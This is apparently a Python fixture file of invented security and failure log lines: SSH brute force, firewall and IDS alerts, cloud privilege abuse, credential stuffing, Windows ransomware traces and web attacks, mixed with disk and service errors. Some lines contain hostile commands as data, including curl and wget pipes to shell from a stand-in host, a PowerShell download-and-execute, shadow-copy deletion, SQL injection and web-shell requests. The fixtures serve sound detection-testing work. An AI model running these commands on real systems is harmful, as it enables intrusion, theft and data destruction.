"""Attacks and failures told in the example logs: {file: [(position 0..1, text)]}.

A position says how far into the file the line stands.  `@T` is the line's time in the file's own
way of writing it.  Addresses are from RFC 5737, names from example.com; all of it is invented.
"""

BAD = "203.0.113.77"

MIXED = [
    # Password guessing against a jump host, then what follows a weak password.
    (0.20, "@T ams-jump01 sshd[4102]: Invalid user oracle from 203.0.113.77 port 40122"),
    (0.21, "@T ams-jump01 sshd[4102]: Failed password for invalid user oracle from 203.0.113.77 port 40122 ssh2"),
    (0.22, "@T ams-jump01 sshd[4104]: Failed password for root from 203.0.113.77 port 40140 ssh2"),
    (0.23, "@T ams-jump01 sshd[4104]: Failed password for root from 203.0.113.77 port 40140 ssh2"),
    (0.24, "@T ams-jump01 sshd[4107]: Failed password for deploy from 203.0.113.77 port 40177 ssh2"),
    (0.25, "@T ams-jump01 sshd[4107]: error: maximum authentication attempts exceeded for deploy from 203.0.113.77 port 40177 ssh2 [preauth]"),
    (0.31, "@T ams-jump01 sshd[4190]: Accepted password for deploy from 203.0.113.77 port 41002 ssh2"),
    (0.33, "@T ams-jump01 sudo[4203]: deploy : TTY=pts/2 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash -c 'curl http://203.0.113.77/u.sh | sh'"),
    (0.34, "@T ams-jump01 useradd[4219]: new user: name=sysupd, UID=0, GID=0, home=/root, shell=/bin/bash"),
    (0.36, "@T ams-jump01 CRON[4250]: (root) CMD (wget -q -O - http://203.0.113.77/m | bash)"),
    (0.38, "@T ams-jump01 auditd[612]: audit daemon stopped by uid=0 pid=4301, logging disabled"),
    # A disk that dies on a database host.
    (0.60, "@T fra-db04 smartd[801]: Device: /dev/sdb, 24 Currently unreadable (pending) sectors"),
    (0.66, "@T fra-db04 kernel: Buffer I/O error on dev sdb1, logical block 7340032, async page read"),
    (0.70, "@T fra-db04 kernel: EXT4-fs error (device sdb1): ext4_journal_check_start: Detected aborted journal, remounting filesystem read-only"),
    (0.72, "@T fra-db04 postgres[1311]: PANIC:  could not write to file \"pg_wal/xlogtemp.1311\": Read-only file system"),
]

FIREWALL = [
    (0.15, "@H|Port scan detected|6|src=203.0.113.77 dst=10.20.0.5 cnt=412 act=blocked msg=412 ports probed in 30 seconds"),
    (0.30, "@H|Exploit attempt blocked|8|src=203.0.113.77 dst=10.20.0.5 dpt=8443 act=blocked cs1Label=signature cs1=VPN portal path traversal"),
    (0.32, "@H|Exploit allowed by policy exception|10|src=203.0.113.77 dst=10.20.0.9 dpt=8443 act=allowed cs1Label=signature cs1=remote code execution in management portal"),
    (0.40, "@H|Command and control traffic detected|10|src=10.20.0.9 dst=198.51.100.66 dpt=443 act=allowed msg=beacon every 60 seconds to known botnet server"),
    (0.52, "@H|Administrator login failed|5|src=10.20.0.9 suser=admin act=denied msg=invalid password"),
    (0.55, "@H|Policy disabled|9|src=10.20.0.9 suser=admin act=success msg=intrusion prevention policy disabled by admin"),
    (0.70, "@H|Data exfiltration suspected|10|src=10.20.0.9 dst=198.51.100.66 out=48318382080 act=allowed msg=45 GB uploaded to unknown host"),
]

IDS = [
    (0.25, "@H|Scan|src=203.0.113.77^dst=10.20.0.5^sev=4^msg=SYN scan of 900 ports"),
    (0.40, "@H|WebAttack|src=203.0.113.77^dst=10.20.0.31^dstPort=80^sev=6^msg=SQL injection attempt union select in parameter id"),
    (0.48, "@H|Exploit|src=203.0.113.77^dst=10.20.0.31^dstPort=8080^sev=9^msg=Remote code execution exploit against deserialization endpoint, CVE-2021-44228"),
    (0.50, "@H|Trojan|src=10.20.0.31^dst=198.51.100.66^dstPort=4444^sev=10^msg=Reverse shell session established to command and control"),
    (0.70, "@H|LateralMovement|src=10.20.0.31^dst=10.20.0.44^dstPort=445^sev=9^msg=Remote service creation with stolen credentials"),
    (0.85, "@H|Tunnel|src=10.20.0.31^dst=198.51.100.66^dstPort=53^sev=8^msg=DNS tunneling exfiltration, high entropy subdomains"),
]

CLOUD = [
    (0.20, {"eventName": "ConsoleLogin", "eventSource": "signin", "userIdentity": {"userName": "b.holt"},
            "sourceIPAddress": BAD, "errorMessage": "Failed authentication"}),
    (0.21, {"eventName": "ConsoleLogin", "eventSource": "signin", "userIdentity": {"userName": "b.holt"},
            "sourceIPAddress": BAD, "errorMessage": "Failed authentication"}),
    (0.30, {"eventName": "ListUsers", "eventSource": "iam", "userIdentity": {"userName": "svc_deploy"},
            "sourceIPAddress": BAD, "errorCode": "AccessDenied"}),
    (0.42, {"eventName": "CreateAccessKey", "eventSource": "iam", "userIdentity": {"type": "Root"},
            "sourceIPAddress": BAD, "requestParameters": {"userName": "root"}}),
    (0.45, {"eventName": "AttachUserPolicy", "eventSource": "iam", "userIdentity": {"userName": "svc_deploy"},
            "sourceIPAddress": BAD, "requestParameters": {"userName": "backup2", "policyArn": "AdministratorAccess"}}),
    (0.47, {"eventName": "StopLogging", "eventSource": "cloudtrail", "userIdentity": {"userName": "backup2"},
            "sourceIPAddress": BAD, "requestParameters": {"name": "org-trail"}}),
    (0.60, {"eventName": "PutBucketPolicy", "eventSource": "s3", "userIdentity": {"userName": "backup2"},
            "sourceIPAddress": BAD, "requestParameters": {"bucketName": "customer-exports", "Principal": "*", "Effect": "Allow"}}),
    (0.80, {"eventName": "ScheduleKeyDeletion", "eventSource": "kms", "userIdentity": {"userName": "backup2"},
            "sourceIPAddress": BAD, "requestParameters": {"keyId": "7f1a2f0e-6a0c-4a39-9d1e-0a5b8a9a2c11", "pendingWindowInDays": "7"}}),
]

APP = [
    (0.20, ("auth", "WARN", "Login failed for customer j.abel@example.com from 203.0.113.77: invalid password")),
    (0.22, ("auth", "WARN", "Login failed for customer k.berg@example.com from 203.0.113.77: invalid password")),
    (0.24, ("auth", "WARN", "Rate limit exceeded by 203.0.113.77: 240 logins per minute, credential stuffing pattern")),
    (0.28, ("auth", "INFO", "Password reset and mail address changed for k.berg@example.com from 203.0.113.77")),
    (0.45, ("orders", "ERROR", "java.net.SocketTimeoutException: Read timed out after 5000 ms calling stock service")),
    (0.46, ("orders", "ERROR", "Circuit breaker stock changed state from CLOSED to OPEN")),
    (0.52, ("payments", "ERROR", "Payment ORD-553120 failed: gateway answered 502, status unknown, manual review")),
    (0.70, ("payments", "CRITICAL", "Payment beneficiary account changed by admin and 84200 EUR transferred abroad, fraud suspected")),
    (0.88, ("ledger", "FATAL", "Data corruption detected: checksum of ledger 2025-03 differs, transactions lost")),
]

WINDOWS = [
    (0.25, (1, "Microsoft-Windows-Sysmon/Operational", "FRA-DESK07", "Process Create: Image powershell.exe CommandLine powershell -nop -w hidden -EncodedCommand SQBFAFgA ParentImage winword.exe User CORP\\h.moss")),
    (0.27, (4104, "Microsoft-Windows-PowerShell/Operational", "FRA-DESK07", "Creating Scriptblock text: IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.77/a.ps1')")),
    (0.29, (3, "Microsoft-Windows-Sysmon/Operational", "FRA-DESK07", "Network connection detected: Image powershell.exe DestinationIp 203.0.113.77 DestinationPort 443")),
    (0.40, (10, "Microsoft-Windows-Sysmon/Operational", "FRA-DESK07", "Process accessed: SourceImage C:\\Users\\Public\\upd.exe TargetImage lsass.exe GrantedAccess 0x1010, credential dumping")),
    (0.48, (4625, "Security", "FRA-FILES02", "An account failed to log on. Account Name: svc_backup Failure Reason: Unknown user name or bad password. Source Network Address: 10.20.4.7")),
    (0.50, (4625, "Security", "FRA-FILES02", "An account failed to log on. Account Name: svc_backup Failure Reason: Unknown user name or bad password. Source Network Address: 10.20.4.7")),
    (0.55, (7045, "System", "FRA-FILES02", "A service was installed in the system: PSEXESVC from \\\\FRA-DESK07\\ADMIN$ remote execution")),
    (0.62, (4728, "Security", "FRA-DC01", "A member was added to a security-enabled global group. Member: svc_backup Group: Domain Admins")),
    (0.75, (1, "Microsoft-Windows-Sysmon/Operational", "FRA-FILES02", "Process Create: Image vssadmin.exe CommandLine vssadmin delete shadows /all /quiet")),
    (0.78, (11, "Microsoft-Windows-Sysmon/Operational", "FRA-FILES02", "File created: TargetFilename D:\\finance\\2025.xlsx.locked, ransomware extension written 900 files per second")),
    (0.85, (1102, "Security", "FRA-FILES02", "The audit log was cleared. Subject: Account Name: svc_backup Domain: CORP")),
]

WEB = [
    (0.18, '203.0.113.77 - - [@T] "GET /.env HTTP/1.1" 404 153 "-" "Mozilla/5.0 zgrab/0.x"'),
    (0.19, '203.0.113.77 - - [@T] "GET /.git/config HTTP/1.1" 403 153 "-" "Mozilla/5.0 zgrab/0.x"'),
    (0.20, '203.0.113.77 - - [@T] "GET /wp-login.php HTTP/1.1" 404 153 "-" "Mozilla/5.0 zgrab/0.x"'),
    (0.35, '203.0.113.77 - - [@T] "GET /products?id=1%27%20OR%201=1-- HTTP/1.1" 500 1022 "-" "sqlmap/1.8"'),
    (0.37, '203.0.113.77 - - [@T] "GET /products?id=1%27%20UNION%20SELECT%20login,password%20FROM%20users-- HTTP/1.1" 200 88210 "-" "sqlmap/1.8"'),
    (0.50, '203.0.113.77 - admin [@T] "POST /admin/upload HTTP/1.1" 200 77 "-" "python-requests/2.32.3"'),
    (0.53, '203.0.113.77 - - [@T] "GET /uploads/thumb.php?cmd=id HTTP/1.1" 200 54 "-" "curl/8.5.0"'),
    (0.55, '203.0.113.77 - - [@T] "GET /uploads/thumb.php?cmd=cat%20/etc/passwd HTTP/1.1" 200 2114 "-" "curl/8.5.0"'),
    (0.75, '192.0.2.140 - - [@T] "GET /cgi-bin/../../../../etc/passwd HTTP/1.1" 400 226 "-" "curl/8.5.0"'),
]
